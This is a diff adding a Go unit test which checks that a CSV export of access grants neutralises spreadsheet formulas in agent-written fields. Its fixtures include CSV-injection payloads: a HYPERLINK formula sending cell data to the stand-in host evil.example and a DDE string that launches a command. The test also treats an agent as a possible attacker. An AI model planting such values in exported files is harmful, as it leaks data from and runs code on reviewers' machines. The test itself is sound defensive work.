@@ -45,3 +45,36 @@ func TestFromGrant(t *testing.T) {
 		t.Errorf("ended_at/end_reason = %q/%q", rec[14], rec[15])
 	}
 }
+
+// TestRecordNeutralisesFormulas: an agent chooses its reason and end
+// comment; a reviewer opens the CSV in a spreadsheet. A field that would
+// be evaluated as a formula is written as text (leading apostrophe);
+// everything else is unchanged.
+func TestRecordNeutralisesFormulas(t *testing.T) {
+	sc, _ := scope.Parse([]string{"s3:GetObject arn:aws:s3:::logs/app/*"})
+	now := time.Date(2026, 11, 25, 14, 2, 0, 0, time.UTC)
+	g := model.Grant{ID: "g_f", Identity: "bot", IdentityKind: model.Agent, Owner: "sre", RequestedScope: sc,
+		Reason: `=HYPERLINK("https://evil.example/?"&A1,"details")`, Status: model.Ended, RequestedAt: now,
+		EndReason: "ended", EndedBy: "bot", EndComment: "@SUM(1+1)*cmd|' /C calc'!A0"}
+	rec := FromGrant(g).Record()
+	idx := map[string]int{}
+	for i, h := range Header {
+		idx[h] = i
+	}
+	if got := rec[idx["reason"]]; got != `'=HYPERLINK("https://evil.example/?"&A1,"details")` {
+		t.Errorf("reason field = %q, want it prefixed with an apostrophe", got)
+	}
+	if got := rec[idx["end_comment"]]; got != "'@SUM(1+1)*cmd|' /C calc'!A0" {
+		t.Errorf("end_comment field = %q, want it prefixed with an apostrophe", got)
+	}
+	for _, s := range []string{"+1", "-1", "\tx", "\rx"} {
+		if got := CSVField(s); got != "'"+s {
+			t.Errorf("CSVField(%q) = %q", s, got)
+		}
+	}
+	for _, s := range []string{"", "plain reason", "g_f", "2026-11-25T14:02:00Z", "s3:GetObject arn:aws:s3:::logs/app/*", "1+1="} {
+		if got := CSVField(s); got != s {
+			t.Errorf("CSVField(%q) = %q, want it unchanged", s, got)
+		}
+	}
+}
